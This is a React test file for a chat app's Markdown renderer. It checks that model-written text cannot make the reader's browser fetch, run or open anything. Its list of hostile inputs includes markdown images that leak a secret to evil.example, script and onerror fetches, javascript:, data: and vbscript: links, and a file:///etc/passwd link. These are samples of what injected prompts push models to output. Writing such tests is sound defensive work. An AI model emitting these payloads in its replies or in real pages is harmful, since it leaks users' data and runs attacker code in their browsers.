import { cleanup, render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { useAskedLink, useKnownHosts } from '../conversations/link-hosts.ts';
import { Markdown } from './markdown.tsx';

beforeEach(() => {
  useAskedLink.setState({ url: null });
  useKnownHosts.setState({ hosts: [] });
});
afterEach(cleanup);

/** What models were made to write by those who wanted a reader's browser to fetch, run or open something. */
const hostile = [
  '![x](https://evil.example/track.png?secret=4711)',
  '![x][ref]\n\n[ref]: https://evil.example/track.png',
  '[![x](https://evil.example/a.png)](https://evil.example/b)',
  '<img src="https://evil.example/track.png">',
  '<img src=x onerror="fetch(`https://evil.example`)">',
  '<script>fetch("https://evil.example")</script>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<style>body{background:url(https://evil.example/a.png)}</style>',
  '<div style="background-image:url(https://evil.example/a.png)">x</div>',
  '<svg><image href="https://evil.example/a.png"/></svg>',
  '<svg onload="alert(1)"></svg>',
  '<video src="https://evil.example/a.mp4" autoplay></video><audio src="https://evil.example/a.mp3"></audio>',
  '<source srcset="https://evil.example/a.png"><picture></picture>',
  '<input type="image" src="https://evil.example/a.png">',
  '<form action="https://evil.example"><button>Go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<a href="javascript:alert(1)" ping="https://evil.example">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/a)',
  '[x](/api/v1/chats)',
  '![x](/api/v1/auth/sign-out)',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '<javascript:alert(1)>',
  '<https://evil.example/auto>',
  'https://evil.example/plain and www.evil.example',
  '[x](https://bank.example@evil.example/)',
  '| a | b |\n| - | - |\n| ![x](https://evil.example/a.png) | <img src=//evil.example> |',
  '- [ ] ![x](https://evil.example/a.png)\n- [x] <img src=x>',
  'Text[^1]\n\n[^1]: ![x](https://evil.example/a.png)',
  '# ![x](https://evil.example/a.png)\n> ![x](https://evil.example/a.png)',
  '```html\n<img src="https://evil.example/a.png">\n```',
  '`<img src=x>` ~~![x](https://evil.example/a.png)~~',
  '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  '<math href="javascript:alert(1)">x</math>',
  '<!-- --><img src=x><!--',
  '\u202E![x](https://evil.example/a.png)',
];

it.each(hostile)('draws nothing that fetches, runs or opens by itself: %s', (text) => {
  const { container } = render(<Markdown text={text} />);
  const elements = [...container.querySelectorAll('*')].filter((element) => !element.closest('svg.lucide'));
  const names = new Set(elements.map(({ localName }) => localName));
  for (const name of [
    'img',
    'script',
    'iframe',
    'object',
    'embed',
    'link',
    'style',
    'video',
    'audio',
    'source',
    'form',
    'meta',
    'base',
    'input',
    'image',
    'math',
    'picture',
    'a',
  ]) {
    expect([name, names.has(name)]).toEqual([name, false]);
  }
  const forbidden = /^(?:on.*|src|srcset|data|href|xlink.*|action|formaction|ping|poster|background|style)$/;
  for (const element of elements) {
    const found = element.getAttributeNames().filter((name) => forbidden.test(name));
    expect(found).toEqual([]);
  }
});

it('a link says where it leads, and opens only after the question', async () => {
  const user = userEvent.setup();
  render(<Markdown text="Read [our **menu**](https://menu.example/today)." />);
  const link = screen.getByRole('button', { name: /our menu/ });
  expect(link.textContent).toBe('our menu (https://menu.example/today)');
  await user.click(link);
  expect(useAskedLink.getState().url?.href).toBe('https://menu.example/today');
});

it('a picture is a link to it, and a host that the member knows is opened at once', () => {
  useKnownHosts.setState({ hosts: ['menu.example'] });
  render(<Markdown text="![A pie](https://menu.example/pie.png) https://other.example/x" />);
  const link = screen.getByRole('link');
  expect(link.getAttribute('href')).toBe('https://menu.example/pie.png');
  expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
  // An address that is its own words is not said twice.
  expect(screen.getByRole('button').textContent).toBe('https://other.example/x');
});

it('draws what models write: headings, lists, tables and code', () => {
  const { container } = render(
    <Markdown
      text={'## Prices\n\n1. Bread\n2. Rye\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```ts\nconst a = 1;\n```'}
    />,
  );
  expect(screen.getByRole('heading', { name: 'Prices' })).toBeDefined();
  expect(screen.getAllByRole('listitem').length).toBe(2);
  expect(screen.getAllByRole('cell').map(({ textContent }) => textContent)).toEqual(['1', '2']);
  expect(container.querySelector('pre code')?.textContent).toBe('const a = 1;\n');
});
